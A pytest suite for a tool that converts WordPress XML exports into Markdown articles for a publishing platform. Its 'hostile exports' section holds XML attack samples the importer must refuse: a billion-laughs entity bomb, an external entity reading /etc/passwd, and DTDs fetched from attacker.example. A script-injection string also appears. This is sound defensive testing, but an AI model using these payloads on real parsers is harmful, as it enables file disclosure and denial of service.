"""`rotativa import wordpress`: a WordPress export becomes uploads the cloud accepts.

The fixture (tests/fixtures/wordpress/nordmilano.xml) is a small invented Nordmilano site
exported as WordPress 6.5 does: 25 posts across the five sections, a page, a trashed
post, an empty one, a menu item, an auto-draft and seven attachments, five of which come
after the posts that use them.
"""

from __future__ import annotations

import argparse
import csv
import html
import json
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rotativa.domain.markdown import render_body
from rotativa.domain.site import SiteSettings
from rotativa.domain.upload import parse_upload
from rotativa.services.validation import validate_upload
from rotativa_tools.cli.wordpress import add_command as add_import_command
from rotativa_tools.wordpress import (
    HostileXmlError,
    ImportOptions,
    ImportResult,
    WxrError,
    html_to_markdown,
    html_to_text,
    import_wordpress,
)
from rotativa_tools.wordpress.progress import TerminalProgress
from tests.conftest import ROOT, SAMPLES

FIXTURE = ROOT / "tests" / "fixtures" / "wordpress" / "nordmilano.xml"
SITE_FILE = SAMPLES / "site.yaml"
SEED_DATELINE = "[textmarker color=”E63631″]SESTO SAN GIOVANNI[/textmarker]"


def site() -> SiteSettings:
    return SiteSettings.from_file(SITE_FILE)


def run_import(out: Path, export: Path = FIXTURE, **options: Any) -> ImportResult:
    settings = options.pop("site", site())
    return import_wordpress(ImportOptions(export=export, out=out, site=settings, **options))


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> ImportResult:
    return run_import(tmp_path_factory.mktemp("import"), site_file=SITE_FILE)


def files(result: ImportResult) -> dict[str, bytes]:
    return {
        path.relative_to(result.out).as_posix(): path.read_bytes()
        for path in sorted(result.out.rglob("*"))
        if path.is_file()
    }


def article(result: ImportResult, slug: str) -> tuple[dict[str, Any], str]:
    data = (result.out / "articles" / f"{slug}.md").read_bytes()
    parsed = parse_upload(f"articles/{slug}.md", data, limit=1_000_000)
    return parsed.fields, parsed.body


def post_entry(result: ImportResult, slug: str) -> dict[str, Any]:
    entries: list[dict[str, Any]] = result.report["posts"]
    return next(p for p in entries if p["file"] == f"articles/{slug}.md")


def warning_codes(result: ImportResult, slug: str) -> list[str]:
    return [w["code"] for w in post_entry(result, slug).get("warnings", [])]


# --- the whole fixture ------------------------------------------------------------------


def test_the_fixture_becomes_at_least_twenty_articles(imported: ImportResult) -> None:
    written = sorted((imported.out / "articles").glob("*.md"))
    assert len(written) == imported.counts["converted"] == 25
    assert imported.counts["published"] == 22
    assert imported.counts["drafts"] == 3
    assert (imported.out / "import-report.json").is_file()
    assert (imported.out / "media-manifest.csv").is_file()
    assert (imported.out / "site.yaml").read_bytes() == SITE_FILE.read_bytes()


def test_every_file_passes_rotativas_own_validation(imported: ImportResult) -> None:
    settings = site()
    for path in sorted((imported.out / "articles").glob("*.md")):
        report = validate_upload(f"articles/{path.name}", path.read_bytes(), settings)
        assert report.valid, (path.name, [p.message("en") for p in report.errors])
        assert not report.errors
    assert imported.ok
    assert imported.counts["invalid"] == 0


def test_every_section_of_the_site_receives_articles(imported: ImportResult) -> None:
    sections = {
        article(imported, p.stem)[0]["section"] for p in (imported.out / "articles").iterdir()
    }
    assert sections == {s.name for s in site().sections}


# --- fields -----------------------------------------------------------------------------


def test_the_seed_post_keeps_its_dateline_byte_for_byte(imported: ImportResult) -> None:
    data = (imported.out / "articles" / "massimo-carrera.md").read_bytes()
    assert SEED_DATELINE.encode("utf-8") in data
    _, body = article(imported, "massimo-carrera")
    assert body.startswith(SEED_DATELINE + " – Una nuova favola calcistica")
    assert '<span class="textmarker" style="color: #E63631">SESTO SAN GIOVANNI</span>' in (
        render_body(body).html
    )
    # Classic posts have no <p>: blank lines were its four paragraphs.
    assert render_body(body).html.count("<p>") == 4
    assert "tecnico “a tempo”." in body


def test_the_seed_post_fields(imported: ImportResult) -> None:
    fields, _ = article(imported, "massimo-carrera")
    assert fields == {
        "title": "Massimo Carrera, un sestese al comando del campionato di calcio russo",
        "slug": "massimo-carrera",
        "section": "Sesto San Giovanni",
        "date": "2017-11-20T09:15:00",  # wp:post_date: local time, naive
        "status": "published",
        "tags": ["Calcio", "Pro Sesto", "Spartak Mosca"],
        "authors": ["Redazione"],  # dc:creator `redazione` → its display name
        "image": {
            "src": "media/carrera-panchina.jpg",
            "alt": "Massimo Carrera in panchina con lo Spartak Mosca",
            "caption": "Carrera durante la partita con lo Zenit",
        },
        "aliases": ["/2017/11/massimo-carrera/"],
    }


def test_sections_follow_the_first_category_that_is_a_section(imported: ImportResult) -> None:
    def section(slug: str) -> str:
        return str(article(imported, slug)[0]["section"])

    assert section("pro-sesto-selezioni-settore-giovanile") == "Sport"  # Calcio ⊂ Sport
    assert section("basket-aurora-cinisello-playoff") == "Sport"  # Basket ⊂ Sport
    assert section("m2-ascensori-stazione") == "Cologno Monzese"  # after "In evidenza"
    assert section("torneo-primavera-calcio-giovanile-cologno") == "Sport"  # listed first


def test_statuses_and_dates(imported: ImportResult) -> None:
    draft, _ = article(imported, "mercato-di-piazza-petazzi-ipotesi-trasferimento-in-via-dante")
    assert draft["status"] == "draft"
    assert "date" not in draft  # never dated in WordPress (GMT date 0000-00-00)
    assert "aliases" not in draft  # its `?p=105` preview address was never public
    pending, _ = article(imported, "mensa-scolastica-nuovo-appalto")
    assert pending["status"] == "draft"
    private, _ = article(imported, "palestra-scuola-media-lavori")
    assert (private["status"], private["date"]) == ("draft", "2024-01-22T14:00:00")
    scheduled, _ = article(imported, "negozi-vicinato-bando")
    assert scheduled["status"] == "published"
    assert scheduled["publish_at"] == scheduled["date"] == "2030-09-01T09:00:00"
    assert "status_future" in warning_codes(imported, "negozi-vicinato-bando")


def test_two_posts_with_one_post_name_get_distinct_slugs(imported: ImportResult) -> None:
    first, _ = article(imported, "consiglio-comunale")
    second, _ = article(imported, "consiglio-comunale-2")
    assert first["section"] == "Cologno Monzese"
    assert second["section"] == "Bresso"
    assert first["aliases"] == ["/2023/04/consiglio-comunale/"]
    assert second["aliases"] == ["/2023/05/consiglio-comunale/"]
    assert "slug_renamed" in warning_codes(imported, "consiglio-comunale-2")


def test_titles_with_colons_quotes_hashes_and_entities_survive(imported: ImportResult) -> None:
    titles = {
        "piazza-petazzi-riqualificazione": (
            'Piazza Petazzi, il sindaco: "Un salotto per tutta la città" #Sesto'
        ),
        "m2-ascensori-stazione": (
            'Cologno, M2: "Ascensori pronti entro l\'estate" – ma i pendolari restano scettici'
        ),
        "ex-falck-bonifiche-sopralluogo": (
            "Ex Falck, sopralluogo sulle bonifiche: «Primi cantieri entro l’autunno»"
        ),
        "ciclabile-parco-nord-inaugurazione": "Parco Nord & ciclabile: inaugurato il nuovo tratto",
    }
    for slug, title in titles.items():
        assert article(imported, slug)[0]["title"] == title
    text = (imported.out / "articles" / "piazza-petazzi-riqualificazione.md").read_text()
    assert 'title: "Piazza Petazzi, il sindaco: \\"Un salotto' in text  # quoted YAML


def test_featured_image_without_alt_text_uses_the_attachment_title(
    imported: ImportResult,
) -> None:
    fields, _ = article(imported, "metrotranvia-31-lavori-notturni")
    assert fields["image"] == {
        "src": "media/img-4521.jpg",
        "alt": "Cantiere della metrotranvia in via Gramsci",
    }
    assert "featured_alt_from_title" in warning_codes(imported, "metrotranvia-31-lavori-notturni")


def test_tags_keep_their_accents(imported: ImportResult) -> None:
    assert article(imported, "casa-di-comunita-inaugurazione")[0]["tags"] == [
        "Sanità",
        "Città metropolitana",
    ]
    assert "Viabilità" in article(imported, "metrotranvia-31-lavori-notturni")[0]["tags"]
    assert "Solidarietà" in article(imported, "corsa-solidale-parco-nord")[0]["tags"]


def test_excerpts_become_plain_summaries(imported: ImportResult) -> None:
    fields, _ = article(imported, "emporio-solidale-primo-anno")
    assert (
        fields["summary"]
        == "In dodici mesi 180 famiglie hanno fatto la spesa all’emporio solidale."
    )


# --- bodies -----------------------------------------------------------------------------


def test_wpautop_posts_keep_paragraphs_and_line_breaks(imported: ImportResult) -> None:
    _, body = article(imported, "parco-nord-volontari-pulizia")
    rendered = render_body(body).html
    assert rendered.count("<p>") == 3
    assert "Il prossimo appuntamento:<br>\nsabato 11 maggio, ore 9<br>" in rendered


def test_caption_shortcodes_are_kept_with_their_image(imported: ImportResult) -> None:
    _, body = article(imported, "villa-ghirlanda-mostra-fotografica")
    assert (
        '[caption id="attachment_302" align="alignright" width="300"]'
        "![Il cortile di Villa Ghirlanda](media/villa-ghirlanda.jpg) "
        "Il cortile di Villa Ghirlanda, sede della mostra[/caption]"
    ) in body
    rendered = render_body(body).html
    assert '<figure class="wp-caption alignright"><img src="media/villa-ghirlanda.jpg"' in rendered
    assert "<figcaption>Il cortile di Villa Ghirlanda, sede della mostra</figcaption>" in rendered


def test_block_editor_figures_become_captions(imported: ImportResult) -> None:
    _, body = article(imported, "torneo-primavera-calcio-giovanile-cologno")
    assert "## Il programma" in body
    assert "via Neruda, con finali alle 17." in body  # HTML line ends are spaces here
    assert (
        "[caption]![Giovani calciatori in campo](media/torneo-primavera.jpg) "
        "L’edizione dello scorso anno[/caption]"
    ) in body


def test_html_structure_becomes_markdown(imported: ImportResult) -> None:
    _, falck = article(imported, "ex-falck-bonifiche-sopralluogo")
    assert "**la commissione ambiente**" in falck
    assert (
        "- trattamento delle acque di falda;\n- collaudo delle aree con *Arpa Lombardia*." in falck
    )
    assert "[sul sito](media/delibera-bonifiche.pdf)" in falck  # an upload: now a media file
    assert "[la pagina del progetto](https://www.comune.sestosg.mi.it/falck)" in falck
    _, er = article(imported, "pronto-soccorso-percorso-veloce")
    assert "\n\n> Separare i flussi" in er
    _, corsa = article(imported, "corsa-solidale-parco-nord")
    assert "1. 5 chilometri, non competitiva;\n2. 10 chilometri" in corsa
    _, ciclabile = article(imported, "ciclabile-parco-nord-inaugurazione")
    assert "[Qui](/2023/05/consiglio-comunale/)" in ciclabile  # old site link → its path


def test_what_markdown_cannot_say_is_kept_as_safe_html_or_reported(
    imported: ImportResult,
) -> None:
    _, body = article(imported, "elezioni-scrutatori-scadenze")
    assert "<table><thead><tr><th>Scadenza</th>" in body
    assert "html_kept" in warning_codes(imported, "elezioni-scrutatori-scadenze")
    _, body = article(imported, "martesana-nuovi-alberi")
    assert "[youtube.com](https://www.youtube.com/embed/dQw4w9WgXcQ)" in body
    assert "embed_as_link" in warning_codes(imported, "martesana-nuovi-alberi")
    _, body = article(imported, "telecamere-piazza-gramsci")
    assert '[gallery ids="302,303" columns="2"]' in body
    assert "shortcode_unknown" in warning_codes(imported, "telecamere-piazza-gramsci")


# --- media, report, idempotence ---------------------------------------------------------


def test_the_media_manifest_lists_what_to_fetch(imported: ImportResult) -> None:
    with (imported.out / "media-manifest.csv").open(encoding="utf-8", newline="") as stream:
        rows = {row["media"]: row for row in csv.DictReader(stream)}
    uploads = "https://www.nordmilanonotizie.it/wp-content/uploads"
    assert rows["media/villa-ghirlanda.jpg"]["url"] == f"{uploads}/2023/05/villa-ghirlanda.jpg"
    # The post shows a resized copy (…-300x200.jpg): the original is what gets uploaded.
    assert (
        rows["media/villa-ghirlanda.jpg"]["used_by"]
        == "articles/villa-ghirlanda-mostra-fotografica.md"
    )
    assert rows["media/img-4521.jpg"]["attachment_id"] == "303"
    assert rows["media/delibera-bonifiche.pdf"]["url"].endswith("/2023/03/delibera-bonifiche.pdf")
    assert len(rows) == imported.counts["media"] == 7


def test_the_report_lists_skipped_items_and_warnings(imported: ImportResult) -> None:
    report = json.loads((imported.out / "import-report.json").read_text(encoding="utf-8"))
    assert report["skipped_by_reason"] == {
        "attachment": 7,
        "page": 1,
        "trash": 1,
        "empty": 1,
        "post_type": 1,
        "auto_draft": 1,
    }
    reasons = {item["id"]: item["reason"] for item in report["skipped"]}
    assert reasons[150] == "page"
    assert reasons[151] == "trash"
    assert reasons[152] == "empty"
    assert reasons[153] == "post_type"
    assert all(item["message"] for item in report["skipped"])
    with_warnings = {p["file"] for p in report["posts"] if p.get("warnings")}
    assert with_warnings == {
        "articles/metrotranvia-31-lavori-notturni.md",
        "articles/telecamere-piazza-gramsci.md",
        "articles/martesana-nuovi-alberi.md",
        "articles/negozi-vicinato-bando.md",
        "articles/consiglio-comunale-2.md",
        "articles/elezioni-scrutatori-scadenze.md",
    }
    shortcode = post_entry(imported, "telecamere-piazza-gramsci")["warnings"][0]
    assert shortcode["line"] == 13  # the file's line, as `rotativa check` says it
    assert "[gallery]" in shortcode["message"]


def test_importing_twice_changes_nothing(imported: ImportResult, tmp_path: Path) -> None:
    before = files(imported)
    stamps = {p: p.stat().st_mtime_ns for p in imported.out.rglob("*") if p.is_file()}
    again = run_import(imported.out, site_file=SITE_FILE)
    assert files(again) == before
    assert {p: p.stat().st_mtime_ns for p in imported.out.rglob("*") if p.is_file()} == stamps
    fresh = run_import(tmp_path / "fresh", site_file=SITE_FILE)
    assert files(fresh) == before


def test_files_the_import_did_not_write_are_reported(tmp_path: Path) -> None:
    export = write_export(tmp_path, item())
    (tmp_path / "out" / "articles").mkdir(parents=True)
    (tmp_path / "out" / "articles" / "vecchio.md").write_text("---\ntitle: x\n---\n")
    result = run_import(tmp_path / "out", export)
    notices = result.report["notices"]
    assert [n["code"] for n in notices] == ["stale_files"]
    assert "articles/vecchio.md" in notices[0]["message"]


def test_without_a_site_the_category_names_are_the_sections(tmp_path: Path) -> None:
    settings = SiteSettings(name="rotativa", base_url="https://example.invalid/")
    result = run_import(tmp_path, site=settings)
    assert result.ok
    assert article(result, "pro-sesto-selezioni-settore-giovanile")[0]["section"] == "Calcio"
    assert article(result, "m2-ascensori-stazione")[0]["section"] == "In evidenza"
    assert not (tmp_path / "site.yaml").exists()


# --- the command ------------------------------------------------------------------------


def command(*argv: str) -> int:
    parser = argparse.ArgumentParser(prog="rotativa")
    add_import_command(parser.add_subparsers(required=True, metavar="COMMAND"))
    args = parser.parse_args(["import", "wordpress", *argv])
    code: int = args.run(args)
    return code


def test_the_command_prints_what_the_editors_guide_shows(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """docs/wordpress-import.md's terminal example is this run's output, line for line."""
    export = tmp_path / "nordmilano.WordPress.2024-05-02.xml"
    export.write_bytes(FIXTURE.read_bytes())
    (tmp_path / "site.yaml").write_bytes(SITE_FILE.read_bytes())
    monkeypatch.chdir(tmp_path)
    argv = (export.name, "--out", "importati", "--site", "site.yaml", "--progress")
    code = command(*argv)
    out, err = capsys.readouterr()
    assert code == 0
    guide = (ROOT / "docs" / "wordpress-import.md").read_text(encoding="utf-8")
    shown = guide.split(f"\n```\n{export.name}: ", 1)[1].split("\n```", 1)[0]
    assert out == f"{export.name}: {shown}\n"
    assert "conversione  [##############################] 100% 37/37" in err


def test_the_command_refuses_bad_usage(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert command(str(tmp_path / "missing.xml"), "--out", str(tmp_path)) == 2
    usage = ["--out", str(tmp_path), "--site", str(SITE_FILE), "--default-section", "Milano"]
    assert command(str(FIXTURE), *usage) == 2
    assert "Milano" in capsys.readouterr().err


def test_posts_without_a_matching_section_use_the_default_or_are_reported(
    tmp_path: Path,
) -> None:
    milano = '<category domain="category" nicename="milano"><![CDATA[Milano]]></category>'
    export = write_export(tmp_path, item(categories=milano))
    unmapped = run_import(tmp_path / "a", export)
    assert not unmapped.ok  # written, but the cloud would refuse it: the report says why
    assert warning_codes(unmapped, "prova")[0] == "section_unmapped"
    mapped = run_import(tmp_path / "b", export, default_section="Bresso")
    assert mapped.ok
    assert article(mapped, "prova")[0]["section"] == "Bresso"


def test_progress_bar_redraws_at_most_ten_times_a_second() -> None:
    class Stream:
        def __init__(self) -> None:
            self.text = ""

        def write(self, text: str) -> None:
            self.text += text

        def flush(self) -> None:
            pass

    now = [0.0]
    stream = Stream()
    bar = TerminalProgress(stream, clock=lambda: now[0])  # type: ignore[arg-type]
    bar.start("conversione", 1000, 10)
    for done in range(1, 101):
        bar.update(done * 10, done // 10)
        now[0] += 0.01
    bar.finish()
    assert 10 <= stream.text.count("\r") <= 13
    assert stream.text.endswith("conversione  [##############################] 100% 10/10\n")


# --- hostile and odd exports ------------------------------------------------------------

WXR_HEAD = """<?xml version="1.0" encoding="{encoding}"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
 xmlns:excerpt="http://wordpress.org/export/1.1/excerpt/"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.1/">
<channel><title>Prova</title><link>https://example.it</link>
"""


def item(
    title: str = "Prova",
    content: str = "<![CDATA[Testo di prova.]]>",
    categories: str = '<category domain="category" nicename="bresso"><![CDATA[Bresso]]></category>',
    extra: str = "<wp:status>publish</wp:status><wp:post_type>post</wp:post_type>",
) -> str:
    return (
        f"<item><title>{title}</title><link>https://example.it/2024/01/prova/</link>"
        f"<dc:creator>redazione</dc:creator><content:encoded>{content}</content:encoded>"
        f"<wp:post_id>7</wp:post_id><wp:post_name>prova</wp:post_name>"
        f"<wp:post_date>2024-01-15 10:00:00</wp:post_date>{extra}{categories}</item>"
    )


def write_export(folder: Path, *items: str, encoding: str = "UTF-8", head: str = "") -> Path:
    path = folder / "export.xml"
    text = (head or WXR_HEAD.format(encoding=encoding)) + "".join(items) + "</channel></rss>"
    path.write_bytes(text.encode(encoding))
    return path


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss><channel><item><title>&lol9;</title></item></channel></rss>"""

HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "external entity": '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM '
    '"file:///etc/passwd">]><rss><channel><item><title>&x;</title></item></channel></rss>',
    "parameter entity": '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM '
    '"http://attacker.example/x.dtd"> %p;]><rss><channel/></rss>',
    "external DTD": '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://attacker.example/x.dtd">'
    "<rss><channel/></rss>",
    "unparsed entity": '<?xml version="1.0"?><!DOCTYPE rss [<!NOTATION n SYSTEM "x">'
    '<!ENTITY e SYSTEM "y" NDATA n>]><rss><channel/></rss>',
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_exports_are_refused_before_anything_is_written(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    export = tmp_path / "hostile.xml"
    export.write_text(HOSTILE[name], encoding="utf-8")
    started = time.monotonic()
    with pytest.raises(HostileXmlError):
        run_import(tmp_path / "out", export)
    assert time.monotonic() - started < 1
    assert not (tmp_path / "out").exists()
    assert command(str(export), "--out", str(tmp_path / "out")) == 2
    assert "refused" in capsys.readouterr().err


def test_a_bare_doctype_is_harmless(tmp_path: Path) -> None:
    head = "<!DOCTYPE rss>\n" + WXR_HEAD.format(encoding="UTF-8").split("\n", 1)[1]
    export = write_export(tmp_path, item(), head='<?xml version="1.0"?>\n' + head)
    assert run_import(tmp_path / "out", export).counts["converted"] == 1


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ("<html><body>not an export</body></html>", "not a WordPress export"),
        ("<rss><channel><item><title>x</title></channel></rss>", "not well-formed at line 1"),
        ("<rss/>", "no <channel>"),
    ],
)
def test_what_is_not_an_export_is_refused(tmp_path: Path, document: str, message: str) -> None:
    export = tmp_path / "export.xml"
    export.write_text(document, encoding="utf-8")
    with pytest.raises(WxrError, match=message):
        run_import(tmp_path / "out", export)


@pytest.mark.parametrize("encoding", ["windows-1252", "ISO-8859-1"])
def test_exports_in_single_byte_encodings(tmp_path: Path, encoding: str) -> None:
    # windows-1252 has the typographic apostrophe and the euro sign; ISO-8859-1 has neither.
    euro, apostrophe = ("€", "’") if encoding == "windows-1252" else ("EUR", "'")
    title = f"Città, l{apostrophe}assessore: 200mila {euro}"
    content = f"Caffè a 1 {euro} in piazza.\n\nSecondo paragrafo."
    export = write_export(tmp_path, item(title=title, content=content), encoding=encoding)
    result = run_import(tmp_path / "out", export)
    fields, body = article(result, "prova")
    assert fields["title"] == title
    assert body == f"Caffè a 1 {euro} in piazza.\n\nSecondo paragrafo.\n"


def test_cdata_sections_entities_and_forbidden_control_characters(tmp_path: Path) -> None:
    content = "<![CDATA[Il codice è <code>a]]]]><![CDATA[>b</code>\x0c e &egrave; finito.]]>"
    export = write_export(tmp_path, item(title="Sesto &amp;amp; Bresso", content=content))
    result = run_import(tmp_path / "out", export)
    fields, body = article(result, "prova")
    assert fields["title"] == "Sesto & Bresso"
    assert body == "Il codice è `a]]>b` e è finito.\n"
    assert [n["code"] for n in result.report["notices"]] == ["control_characters"]


def test_items_missing_most_fields_still_import_as_drafts(tmp_path: Path) -> None:
    bare = "<item><title>Solo un titolo</title><content:encoded>Un testo.</content:encoded></item>"
    export = write_export(tmp_path, bare)
    result = run_import(tmp_path / "out", export, default_section="Bresso")
    fields, body = article(result, "solo-un-titolo")
    assert fields["status"] == "draft"
    assert body == "Un testo.\n"
    assert warning_codes(result, "solo-un-titolo") == ["section_default", "status_unknown"]


def test_password_protected_posts_stay_drafts(tmp_path: Path) -> None:
    extra = (
        "<wp:status>publish</wp:status><wp:post_type>post</wp:post_type>"
        "<wp:post_password>segreto</wp:post_password>"
    )
    result = run_import(tmp_path / "out", write_export(tmp_path, item(extra=extra)))
    assert article(result, "prova")[0]["status"] == "draft"
    assert warning_codes(result, "prova") == ["password_protected"]


# --- the converter on its own -----------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "markdown"),
    [
        ("<p>Uno <b>due </b>tre</p>", "Uno **due** tre"),
        ("<p>foo<em>bar</em>baz</p>", "foo*bar*baz"),
        ('<p><strong>"Ciao"</strong>mondo</p>', '<strong>"Ciao"</strong>mondo'),
        ("<p>2024. Un anno</p><p># no</p><p>- no</p>", "2024\\. Un anno\n\n\\# no\n\n\\- no"),
        ("<p>5 * 3 = [15] &lt;b&gt; a_b _c_</p>", "5 \\* 3 = \\[15\\] \\<b> a_b \\_c\\_"),
        ("<p>&nbsp;</p><p>Testo</p>", "Testo"),
        ("Uno\nDue<br />\nTre\n\n\nQuattro", "Uno\\\nDue\\\nTre\n\nQuattro"),
        ("<p>a<br><br>b</p>", "a\n\nb"),
        ('<p>Bene!<a href="https://x.it/">link</a></p>', "Bene\\![link](https://x.it/)"),
        ("<p><code>a`b</code> e <code>x</code><code>y</code></p>", "``a`b`` e `xy`"),
        ("<pre>if x:\n    y()</pre>", "```\nif x:\n    y()\n```"),
        ("<ol start='3'><li>c</li><li>d<ul><li>e</li></ul></li></ol>", "3. c\n4. d\n   - e"),
        ("<blockquote><p>a</p><p>b</p></blockquote>", "> a\n>\n> b"),
        ("<h1>Titolo</h1><h4>Sotto</h4>", "# Titolo\n\n#### Sotto"),
        ('<p><a href="javascript:alert(1)">x</a><script>alert(2)</script></p>', "x"),
        ("<p>https://www.youtube.com/watch?v=abc</p>", "<https://www.youtube.com/watch?v=abc>"),
        ("[embed]https://youtu.be/a_b[/embed]", "[embed]https://youtu.be/a_b[/embed]"),
        ("[foto di Mario Rossi] e [[textmarker]]", "\\[foto di Mario Rossi\\] e [[textmarker]]"),
    ],
)
def test_html_to_markdown(source: str, markdown: str) -> None:
    assert html_to_markdown(source).markdown == markdown + "\n"


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ('[textmarker color="red"]' * 5000, '[textmarker color="red"]' * 5000),
        ("<div>" * 3000 + "x" + "</div>" * 3000, "x"),
        ("<em>" * 3000 + "x", "*x*"),
        ("<ul><li>" * 40 + "x", "- " * 8 + "x"),  # deeper lists are flattened, not lost
        ("<blockquote>" * 40 + "y", "> " * 8 + "y"),
    ],
)
def test_pathological_bodies_convert_quickly_and_lose_nothing(source: str, expected: str) -> None:
    started = time.monotonic()
    assert html_to_markdown(source).markdown == expected + "\n"
    assert time.monotonic() - started < 1


def test_texturized_shortcodes_survive_inside_html() -> None:
    source = f"<p><strong>{SEED_DATELINE}</strong> – testo &amp; altro</p>"
    converted = html_to_markdown(source)
    assert converted.markdown == f"**{SEED_DATELINE}** – testo & altro\n"
    entity = "[textmarker color=&#8221;E63631&#8243;]BRESSO[/textmarker]"
    assert entity in html_to_markdown(f"<p>{entity} – testo</p>").markdown


def _visible(fragment: str) -> str:
    return " ".join(
        html_to_text(re.sub(r"<br\s*/?>|</?(p|li|ul|blockquote)\b[^>]*>", " ", fragment)).split()
    )


_TEXT = st.lists(
    st.sampled_from(
        [*"ab1 *_[]()<>#-+.!`~|\\&;:\"'’«»\n", "1. ", "- ", "# ", "**", "<br>", "\n\n"]
    ),
    min_size=1,
    max_size=12,
).map(lambda parts: "".join(p if p == "<br>" else html.escape(p) for p in parts))


def _wrap(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    def build(tag: str, inner: list[str]) -> str:
        if tag == "a":
            return f'<a href="https://x.it/p">{"".join(inner)}</a>'
        if tag == "code":
            return f"<code>{html.escape(html_to_text(''.join(inner)))}</code>"
        return f"<{tag}>{''.join(inner)}</{tag}>"

    tags = st.sampled_from(["strong", "em", "a", "u", "span", "code"])
    return st.builds(build, tags, st.lists(children, min_size=1, max_size=3))


_BLOCK = st.builds(
    lambda tag, inner: inner if tag == "" else f"<{tag}>{inner}</{tag}>",
    st.sampled_from(["p", "h2", "blockquote", "li", ""]),
    st.recursive(_TEXT, _wrap, max_leaves=5),
)


# 60 examples keep the suite quick; the converter was also run on 6,000 more while written.
@settings(max_examples=60, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(st.lists(_BLOCK, min_size=1, max_size=3).map("\n".join), st.booleans())
def test_converted_text_reads_back_as_the_same_text(source: str, autop: bool) -> None:
    """Whatever the post's text holds (Markdown's own characters included), rotativa's
    renderer shows the same words: nothing becomes emphasis, a link, a list or a heading
    by accident, and nothing is lost."""
    source = re.sub(r"<li>(.*?)</li>", r"<ul><li>\1</li></ul>", source, flags=re.S)
    rendered = render_body(html_to_markdown(source, autop=autop).markdown)
    assert _visible(rendered.html) == _visible(source.replace("\n", " "))
    assert not [p for p in rendered.problems if p.code != "shortcode_unknown"]


def _post_names(path: Path) -> Iterator[str]:
    yield from re.findall(r"<wp:post_name><!\[CDATA\[([^\]]*)\]\]>", path.read_text())


def test_the_fixture_is_what_the_brief_asked_for() -> None:
    text = FIXTURE.read_text(encoding="utf-8")
    names = [name for name in _post_names(FIXTURE) if name]
    assert text.count("<wp:post_type><![CDATA[post]]></wp:post_type>") >= 20
    assert names.count("consiglio-comunale") == 2
    assert SEED_DATELINE in text
    for marker in ("[caption", "<![CDATA[page]]>", "<![CDATA[trash]]>", "<![CDATA[draft]]>",
                   "_thumbnail_id", "Sanità", "Città metropolitana"):  # fmt: skip
        assert marker in text
